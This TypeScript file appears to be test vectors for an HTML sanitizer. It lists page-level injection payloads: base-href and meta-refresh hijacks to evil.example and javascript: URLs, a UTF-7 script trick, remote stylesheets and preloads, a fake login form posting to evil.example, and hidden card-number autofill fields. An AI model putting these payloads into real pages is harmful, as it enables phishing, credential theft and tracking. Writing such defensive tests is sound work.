import type { VectorRow } from './vector.ts';

/** What acts on the page as a whole, or asks its reader for something. */
export const PAGE: readonly VectorRow[] = [
  ['base', 'navigates', '<base href="https://evil.example/"><a href=x>text</a><img src=x>'],
  ['base that runs', 'runs', '<base href="javascript:/a/+X()//"><a href="/..">text</a>'],
  ['base that names a target', 'navigates', '<base target=_top><a href=x>text</a>'],
  ['refresh', 'navigates', '<meta http-equiv=refresh content="0;url=https://evil.example/">'],
  ['refresh to a script', 'runs', '<meta http-equiv="refresh" content="0;url=javascript:X()">'],
  [
    'refresh to data',
    'navigates',
    '<META HTTP-EQUIV=ReFrEsH CONTENT="0; URL=data:text/html,<script>X()</script>">',
  ],
  [
    'policy of its own',
    'breaks',
    `<meta http-equiv="Content-Security-Policy" content="script-src 'none'; style-src 'none'">`,
  ],
  ['cookie', 'clobbers', '<meta http-equiv=set-cookie content="a=b">'],
  ['character set', 'breaks', '<meta charset=utf-7>+ADw-script+AD4-X()+ADw-/script+AD4-'],
  [
    'referrer',
    'loads',
    '<meta name=referrer content=unsafe-url><img src="https://evil.example/r.png" referrerpolicy=unsafe-url>',
  ],
  [
    'colour scheme and viewport',
    'restyles',
    '<meta name=color-scheme content=dark><meta name=viewport content="width=9999">',
  ],
  ['style sheet', 'restyles', '<link rel=stylesheet href="https://evil.example/x.css">'],
  [
    'style sheet in another case',
    'restyles',
    '<LINK REL="alternate STYLESHEET" HREF="//evil.example/y.css">',
  ],
  ['style sheet of data', 'restyles', '<link rel=stylesheet href="data:text/css,body{display:none}">'],
  ['import', 'runs', '<link rel=import href="//evil.example/i.html">'],
  [
    'prefetch',
    'loads',
    '<link rel=prefetch href="https://evil.example/p"><link rel=prerender href="https://evil.example/q">',
  ],
  [
    'preload',
    'loads',
    '<link rel=preload as=image href="https://evil.example/p"><link rel=modulepreload href="//evil.example/m.js">',
  ],
  ['preload of a set', 'loads', '<link rel=preload as=image imagesrcset="https://evil.example/s 1x">'],
  [
    'name resolution',
    'loads',
    '<link rel=dns-prefetch href="//evil.example"><link rel=preconnect href="//evil.example">',
  ],
  ['icon', 'loads', '<link rel="shortcut icon" href="https://evil.example/i.ico">'],
  [
    'manifest of an application',
    'loads',
    '<link rel=manifest href="https://evil.example/m.json" crossorigin=use-credentials>',
  ],
  [
    'login form',
    'asks',
    '<form action="https://evil.example/login" method=post><input name=user autocomplete=username><input type=password name=p><button>text</button></form>',
  ],
  [
    'fields that browsers fill in',
    'asks',
    '<input autocomplete=cc-number name=card style="opacity:0"><input autocomplete=email>',
  ],
  [
    'field for files',
    'asks',
    '<input type=file webkitdirectory multiple><input type=image src="//evil.example/i">',
  ],
  [
    'choices',
    'asks',
    '<select><option>a<optgroup label=b></select><datalist id=d><option value=x></datalist><input list=d>',
  ],
  [
    'text that can be edited',
    'asks',
    '<p contenteditable=true spellcheck=true>text</p><p contenteditable=plaintext-only>text</p>',
  ],
  [
    'focus and order of the keys',
    'asks',
    '<p tabindex=1 autofocus accesskey=s>text</p><a href=x tabindex=-1>text</a>',
  ],
  [
    'hidden and inert',
    'asks',
    '<p hidden>text</p><p inert>text</p><p aria-hidden=true role=alert aria-live=assertive>text</p>',
  ],
  ['dialog', 'restyles', '<dialog open>Your session has ended.</dialog>'],
  [
    'popover that is opened',
    'restyles',
    '<div popover id=p2>text</div><button popovertarget=p2 popovertargetaction=show>text</button>',
  ],
  [
    'commands of buttons',
    'restyles',
    '<button commandfor=p3 command=show-modal>text</button><dialog id=p3>text</dialog>',
  ],
  ['interest in a link', 'loads', '<a interestfor=p4 href=x>text</a><div popover=hint id=p4>text</div>'],
  ['custom element', 'runs', '<custom-element>text</custom-element><p is=custom-p>text</p>'],
  ['parts and slots', 'restyles', '<p part=a slot=b exportparts=c>text</p>'],
  ['microdata', 'clobbers', '<p itemscope itemtype=x itemid=y itemprop=z itemref=galley>text</p>'],
  [
    'objects of the page',
    'asks',
    '<canvas>text</canvas><keygen name=k><command icon="javascript:X()"><menuitem icon=x onclick=X()>',
  ],
  [
    'permission element',
    'asks',
    '<permission type="camera microphone">text</permission><geolocation>text</geolocation>',
  ],
  ['title', 'forges', '<title>Another title</title><p>text</p>'],
  [
    'head and body',
    'restyles',
    '</div></article></main></body><head><base href=//evil.example></head><body class=vscode-light bgcolor=red text=red link=red>text',
  ],
  ['doctype', 'breaks', '<!DOCTYPE html PUBLIC "-//IETF//DTD HTML 2.0//EN"><p>text'],
  ['fragment that is marked', 'navigates', '<a href="#:~:text=text">text</a>'],
  [
    'full screen and film by itself',
    'asks',
    '<video src="https://evil.example/a.mp4" autoplay muted loop playsinline disableremoteplayback></video>',
  ],
  ['sound by itself', 'asks', '<audio src="https://evil.example/a.mp3" autoplay loop preload=auto></audio>'],
];
